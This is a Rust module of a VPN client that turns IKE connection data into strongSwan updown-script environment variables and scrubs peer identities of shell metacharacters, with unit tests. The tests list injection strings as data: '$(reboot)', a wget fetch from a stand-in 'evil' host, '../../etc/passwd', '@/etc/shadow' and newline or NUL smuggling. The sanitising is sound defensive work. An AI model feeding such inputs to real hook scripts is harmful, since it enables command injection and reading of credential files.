//! What a hook is told, in the variables of strongSwan's updown scripts.
//!
//! The peer chooses its identity, and a server the addresses it lends. Addresses are addresses by their type; what is
//! text loses whatever a shell would take for more than text, even where a script is careless with it.

use std::net::IpAddr;

use serde::{Deserialize, Serialize};

use crate::ipc::{Carried, Selector};

/// Where a hook finds the programs it runs. Nothing else of our own environment is its business.
const PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
/// Of this interface between IKE daemon and script; FreeS/WAN began it, and strongSwan's scripts ask for it.
const VERSION: &str = "1.1";
/// Addresses of a kind that are told; no peer lends as many.
const ADDRESSES_MAX: usize = 16;
/// Letters of an identity that are told.
const IDENTITY_MAX: usize = 1024;

const ICMP: u8 = 1;
const ICMPV6: u8 = 58;

/// What happened.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Verb {
    Up,
    Down,
}

impl Verb {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Up => "up",
            Self::Down => "down",
        }
    }
}

/// What our side knows of itself, and no peer has a say in.
#[derive(Clone, Copy, Debug)]
pub(super) struct Place<'a> {
    pub(super) tunnel: &'a str,
    pub(super) child: &'a str,
    /// What strongSwan calls the connection: the name of the child.
    pub(super) connection: &'a str,
    /// The TUN.
    pub(super) interface: &'a str,
    /// The peer may reach this machine itself.
    pub(super) host_access: bool,
}

/// All that is said of a pair of traffic selectors, but what happened to it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(super) struct Variables {
    /// What follows the verb: `-client`, `-host-v6`.
    kind: String,
    /// If one of these is another one, the hook is told.
    telling: Vec<(String, String)>,
    /// These may change while everything stays: numbers of ours, a port of a NAT.
    passing: Vec<(String, String)>,
}

impl Variables {
    pub(super) fn new(
        place: Place<'_>,
        carried: &Carried,
        (local, remote): (&Selector, &Selector),
        (ike_sa, number): (u64, u32),
    ) -> Self {
        let me = carried.local.ip();
        let is_host = local.first == me && local.last == me;
        let kind = match (is_host, local.first.is_ipv6()) {
            (true, false) => "-host",
            (true, true) => "-host-v6",
            (false, false) => "-client",
            (false, true) => "-client-v6",
        };
        let (my_port, peer_port) = ports(local, remote);
        let mut telling = Vec::new();
        let mut tell = |name: &str, value: String| telling.push((name.to_owned(), value));
        tell("PLUTO_CONNECTION", place.connection.to_owned());
        tell("PLUTO_INTERFACE", place.interface.to_owned());
        tell("PLUTO_PROTO", "esp".to_owned());
        tell("PLUTO_ME", me.to_string());
        tell("PLUTO_MY_ID", plain(&carried.local_identity));
        tell("PLUTO_MY_CLIENT", subnet(local));
        tell("PLUTO_MY_PORT", my_port);
        tell("PLUTO_MY_PROTOCOL", local.protocol.to_string());
        tell("PLUTO_PEER", carried.remote.ip().to_string());
        // Who logs in with EAP is known by that; before, it may have said anything.
        let claimed = carried.claimed_identity.as_ref();
        let peer_id = claimed.unwrap_or(&carried.remote_identity);
        tell("PLUTO_PEER_ID", plain(peer_id));
        if claimed.is_some() {
            tell("PLUTO_XAUTH_ID", plain(&carried.remote_identity));
        }
        tell("PLUTO_PEER_CLIENT", subnet(remote));
        tell("PLUTO_PEER_PORT", peer_port);
        tell("PLUTO_PEER_PROTOCOL", remote.protocol.to_string());
        if place.host_access {
            tell("PLUTO_HOST_ACCESS", "1".to_owned());
        }
        tell("CYGNET_TUNNEL", place.tunnel.to_owned());
        tell("CYGNET_CHILD", place.child.to_owned());
        for (first, each, addresses) in [
            (
                Some("PLUTO_MY_SOURCEIP"),
                "PLUTO_MY_SOURCEIP",
                &carried.assigned,
            ),
            (
                Some("PLUTO_PEER_SOURCEIP"),
                "PLUTO_PEER_SOURCEIP",
                &carried.lent,
            ),
            (None, "PLUTO_DNS", &carried.dns),
        ] {
            numbered(&mut telling, first, each, addresses);
        }
        let passing = [
            ("PLUTO_REQID", number.to_string()),
            ("PLUTO_UNIQUEID", ike_sa.to_string()),
            // ESP travels in UDP, always.
            ("PLUTO_UDP_ENC", carried.remote.port().to_string()),
        ];
        let passing = passing.map(|(name, value)| (name.to_owned(), value));
        Self {
            kind: kind.to_owned(),
            telling,
            passing: passing.into(),
        }
    }

    /// Whether a hook that was told of one need not be told of the other.
    pub(super) fn says_the_same(&self, other: &Self) -> bool {
        (&self.kind, &self.telling) == (&other.kind, &other.telling)
    }

    /// Everything that the program finds in its environment.
    pub(super) fn environment(&self, verb: Verb) -> impl Iterator<Item = (&str, String)> {
        let own = [
            ("PATH", PATH.to_owned()),
            ("PLUTO_VERSION", VERSION.to_owned()),
            ("PLUTO_VERB", format!("{}{}", verb.name(), self.kind)),
        ];
        let others = self.telling.iter().chain(&self.passing);
        own.into_iter()
            .chain(others.map(|(name, value)| (name.as_str(), value.clone())))
    }
}

/// `PLUTO_MY_SOURCEIP`, the first, then `PLUTO_MY_SOURCEIP4_1`, `PLUTO_MY_SOURCEIP6_1`, and so on.
fn numbered(
    telling: &mut Vec<(String, String)>,
    first: Option<&str>,
    each: &str,
    addresses: &[IpAddr],
) {
    if let (Some(name), Some(address)) = (first, addresses.first()) {
        telling.push((name.to_owned(), address.to_string()));
    }
    let (mut v4, mut v6) = (0, 0);
    for address in addresses.iter().take(ADDRESSES_MAX) {
        let (family, number) = match address {
            IpAddr::V4(_) => (4, &mut v4),
            IpAddr::V6(_) => (6, &mut v6),
        };
        *number += 1;
        telling.push((format!("{each}{family}_{number}"), address.to_string()));
    }
}

/// The smallest network that holds the range.
fn subnet(selector: &Selector) -> String {
    match (selector.first, selector.last) {
        (IpAddr::V4(first), IpAddr::V4(last)) => {
            let length = (first.to_bits() ^ last.to_bits()).leading_zeros();
            let kept = u32::MAX.checked_shl(32 - length).unwrap_or(0);
            let network = std::net::Ipv4Addr::from_bits(first.to_bits() & kept);
            format!("{network}/{length}")
        }
        (IpAddr::V6(first), IpAddr::V6(last)) => {
            let length = (first.to_bits() ^ last.to_bits()).leading_zeros();
            let kept = u128::MAX.checked_shl(128 - length).unwrap_or(0);
            let network = std::net::Ipv6Addr::from_bits(first.to_bits() & kept);
            format!("{network}/{length}")
        }
        // No range at all.
        (first, _) => ipnet::IpNet::from(first).to_string(),
    }
}

/// Ports of our side and the peer's: one, `first:last`, or 0 for all. Of ICMP, its type is told as ours and its
/// code as the peer's.
fn ports(local: &Selector, remote: &Selector) -> (String, String) {
    if matches!(local.protocol.max(remote.protocol), ICMP | ICMPV6) {
        let [kind, code] = local.ports.0.max(remote.ports.0).to_be_bytes();
        return (kind.to_string(), code.to_string());
    }
    let told = |(first, last): (u16, u16)| match (first, last) {
        (0, u16::MAX) => "0".to_owned(),
        (first, last) if first == last => first.to_string(),
        (first, last) => format!("{first}:{last}"),
    };
    (told(local.ports), told(remote.ports))
}

/// An identity as one word that is neither an option nor a path, and in which a shell finds nothing to do, also where
/// a script forgets to quote it or evaluates it. A mail address, a host name and an IP address stay as they are.
fn plain(identity: &str) -> String {
    let mut text = String::new();
    for c in identity.chars().take(IDENTITY_MAX) {
        let harmless = match c {
            // What begins with one of these is an option, a file with more of them, or a hidden file or a directory.
            '-' | '+' | '@' | '.' | '=' | '%' => !text.is_empty(),
            '_' | ':' | ',' => true,
            c => c.is_alphanumeric(),
        };
        text.push(if harmless { c } else { '_' });
    }
    text
}

#[cfg(test)]
pub(super) mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::ipc::CarriedChild;

    pub(in super::super) fn selector(
        first: &str,
        last: &str,
        protocol: u8,
        ports: (u16, u16),
    ) -> Selector {
        Selector {
            first: first.parse().unwrap(),
            last: last.parse().unwrap(),
            protocol,
            ports,
        }
    }

    pub(in super::super) fn carried() -> Carried {
        Carried {
            connection: "home".to_owned(),
            local: "192.0.2.1:4500".parse().unwrap(),
            remote: "203.0.113.5:4500".parse().unwrap(),
            local_identity: "box".to_owned(),
            remote_identity: "vpn.example.org".to_owned(),
            claimed_identity: None,
            assigned: vec!["fd99::2".parse().unwrap(), "10.99.0.2".parse().unwrap()],
            dns: vec!["9.9.9.9".parse().unwrap(), "2620:fe::fe".parse().unwrap()],
            lent: Vec::new(),
            children: vec![CarriedChild {
                name: "net".to_owned(),
                local: vec![selector("10.99.0.2", "10.99.0.2", 0, (0, u16::MAX))],
                remote: vec![selector("0.0.0.0", "255.255.255.255", 0, (0, u16::MAX))],
            }],
        }
    }

    const PLACE: Place<'_> = Place {
        tunnel: "home",
        child: "net",
        connection: "home",
        interface: "cyg-home",
        host_access: false,
    };

    fn environment(carried: &Carried, verb: Verb) -> BTreeMap<String, String> {
        let child = &carried.children[0];
        let pair = (&child.local[0], &child.remote[0]);
        let variables = Variables::new(PLACE, carried, pair, (7, 1));
        let all = variables.environment(verb);
        all.map(|(name, value)| (name.to_owned(), value)).collect()
    }

    #[test]
    fn a_client_is_told_of_as_strongswan_tells() {
        let environment = environment(&carried(), Verb::Up);
        let told: Vec<String> = environment
            .iter()
            .map(|(name, value)| format!("{name}={value}"))
            .collect();
        assert_eq!(
            told,
            [
                "CYGNET_CHILD=net",
                "CYGNET_TUNNEL=home",
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                "PLUTO_CONNECTION=home",
                "PLUTO_DNS4_1=9.9.9.9",
                "PLUTO_DNS6_1=2620:fe::fe",
                "PLUTO_INTERFACE=cyg-home",
                "PLUTO_ME=192.0.2.1",
                "PLUTO_MY_CLIENT=10.99.0.2/32",
                "PLUTO_MY_ID=box",
                "PLUTO_MY_PORT=0",
                "PLUTO_MY_PROTOCOL=0",
                "PLUTO_MY_SOURCEIP=fd99::2",
                "PLUTO_MY_SOURCEIP4_1=10.99.0.2",
                "PLUTO_MY_SOURCEIP6_1=fd99::2",
                "PLUTO_PEER=203.0.113.5",
                "PLUTO_PEER_CLIENT=0.0.0.0/0",
                "PLUTO_PEER_ID=vpn.example.org",
                "PLUTO_PEER_PORT=0",
                "PLUTO_PEER_PROTOCOL=0",
                "PLUTO_PROTO=esp",
                "PLUTO_REQID=1",
                "PLUTO_UDP_ENC=4500",
                "PLUTO_UNIQUEID=7",
                "PLUTO_VERB=up-client",
                "PLUTO_VERSION=1.1",
            ]
        );
    }

    #[test]
    fn the_verb_says_family_and_whether_it_is_this_machine_alone() {
        let mut carried = carried();
        let mut verb = |address: &str, last: &str| {
            carried.children[0].local = vec![selector(address, last, 0, (0, u16::MAX))];
            environment(&carried, Verb::Down)["PLUTO_VERB"].clone()
        };
        assert_eq!(verb("192.0.2.1", "192.0.2.1"), "down-host");
        assert_eq!(verb("192.0.2.0", "192.0.2.1"), "down-client");
        assert_eq!(verb("fd00:1::", "fd00:1::ffff"), "down-client-v6");
        carried.local = "[2001:db8::1]:4500".parse().unwrap();
        carried.children[0].local = vec![selector("2001:db8::1", "2001:db8::1", 0, (0, u16::MAX))];
        assert_eq!(environment(&carried, Verb::Up)["PLUTO_VERB"], "up-host-v6");
    }

    #[test]
    fn ranges_become_the_networks_around_them() {
        for (first, last, network) in [
            ("10.1.0.0", "10.1.0.255", "10.1.0.0/24"),
            ("10.1.0.7", "10.1.0.7", "10.1.0.7/32"),
            ("10.1.0.5", "10.1.0.9", "10.1.0.0/28"),
            ("0.0.0.0", "255.255.255.255", "0.0.0.0/0"),
            ("::", "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff", "::/0"),
            ("fd00:1::", "fd00:1::ffff:ffff:ffff:ffff", "fd00:1::/64"),
            ("fd00::1", "fd00::1", "fd00::1/128"),
            // Of an engine that was taken over.
            ("10.1.0.9", "10.1.0.5", "10.1.0.0/28"),
            ("10.1.0.9", "fd00::1", "10.1.0.9/32"),
        ] {
            let selector = selector(first, last, 0, (0, u16::MAX));
            assert_eq!(subnet(&selector), network);
        }
    }

    #[test]
    fn ports_are_one_all_or_a_range_and_icmp_has_type_and_code() {
        let tell = |protocol, local, remote| {
            let any = |ports| selector("10.0.0.1", "10.0.0.1", protocol, ports);
            let (my, peer) = ports(&any(local), &any(remote));
            format!("{my} {peer}")
        };
        assert_eq!(tell(17, (53, 53), (0, u16::MAX)), "53 0");
        assert_eq!(tell(6, (0, 1023), (80, 443)), "0:1023 80:443");
        assert_eq!(tell(1, (0x0800, 0x08ff), (0, u16::MAX)), "8 0");
        assert_eq!(tell(58, (0x8103, 0x8103), (0x8103, 0x8103)), "129 3");
    }

    #[test]
    fn an_identity_injects_nothing() {
        for (identity, told) in [
            ("vpn.example.org", "vpn.example.org"),
            ("alice+phone@example.org", "alice+phone@example.org"),
            ("C=XX, O=lab, CN=alice", "C=XX,_O=lab,_CN=alice"),
            ("büro-münchen.example", "büro-münchen.example"),
            ("2001:db8::1", "2001:db8::1"),
            ("x\nPLUTO_VERB=down\0y", "x_PLUTO_VERB=down_y"),
            ("$(reboot) `id` \"'\\", "__reboot___id_____"),
            ("a;b|c&d>e<f", "a_b_c_d_e_f"),
            (
                "* ? [a] {a,b} ~root !x #y ^z",
                "_____a___a,b___root__x__y__z",
            ),
            ("-rf --help a-b", "_rf_--help_a-b"),
            ("\u{1b}[2J\u{202e}", "__2J_"),
            // Behind `env ID=`, a blank would begin a command.
            (
                "x /usr/bin/wget http://evil/f",
                "x__usr_bin_wget_http:__evil_f",
            ),
            ("x\tid", "x_id"),
            ("x\u{a0}y\u{3000}z", "x_y_z"),
            // A file of that name is in the directory of such files.
            ("..", "_."),
            ("../../etc/passwd", "_._.._etc_passwd"),
            ("/etc/passwd", "_etc_passwd"),
            ("a/../../b", "a_.._.._b"),
            (".profile", "_profile"),
            // `curl -d`, `set`.
            ("@/etc/shadow", "__etc_shadow"),
            ("+x", "_x"),
        ] {
            assert_eq!(plain(identity), told);
        }
        assert_eq!(plain(&"ä".repeat(60_000)).chars().count(), IDENTITY_MAX);
    }

    #[test]
    fn who_logs_in_is_told_of_as_strongswan_tells() {
        let mut carried = carried();
        let told = environment(&carried, Verb::Up);
        assert!(!told.contains_key("PLUTO_XAUTH_ID"));
        carried.claimed_identity = Some("10.0.2.15".to_owned());
        carried.remote_identity = "alice smith".to_owned();
        let told = environment(&carried, Verb::Up);
        assert_eq!(told["PLUTO_PEER_ID"], "10.0.2.15");
        assert_eq!(told["PLUTO_XAUTH_ID"], "alice_smith");
    }

    #[test]
    fn an_identity_that_is_not_quoted_is_one_word_to_a_shell() {
        let mut carried = carried();
        carried.remote_identity = "x /bin/echo evil".to_owned();
        let id = &environment(&carried, Verb::Up)["PLUTO_PEER_ID"];
        let script =
            "env ID=$PLUTO_PEER_ID /bin/sh -c 'echo \"$ID\"'; eval \"echo $PLUTO_PEER_ID\"";
        let shell = std::process::Command::new("/bin/sh")
            .args(["-c", script])
            .env("PLUTO_PEER_ID", id)
            .output();
        let said = String::from_utf8(shell.unwrap().stdout).unwrap();
        assert_eq!(said, "x__bin_echo_evil\nx__bin_echo_evil\n");
    }

    #[test]
    fn no_value_has_a_nul_whatever_the_engine_says() {
        let mut carried = carried();
        carried.local_identity = "\0".to_owned();
        carried.remote_identity = "a\0b".to_owned();
        carried.assigned = vec!["10.0.0.1".parse().unwrap(); 100_000];
        let environment = environment(&carried, Verb::Up);
        assert!(environment.values().all(|value| !value.contains('\0')));
        assert!(environment.len() < 60, "{}", environment.len());
    }

    #[test]
    fn a_port_of_a_nat_changes_nothing_and_an_address_does() {
        let variables = |carried: &Carried, ike_sa| {
            let child = &carried.children[0];
            let pair = (&child.local[0], &child.remote[0]);
            Variables::new(PLACE, carried, pair, (ike_sa, 1))
        };
        let before = carried();
        let mut after = carried();
        after.remote.set_port(1025);
        assert!(variables(&before, 1).says_the_same(&variables(&after, 2)));
        after.remote.set_ip("203.0.113.6".parse().unwrap());
        assert!(!variables(&before, 1).says_the_same(&variables(&after, 1)));
    }
}
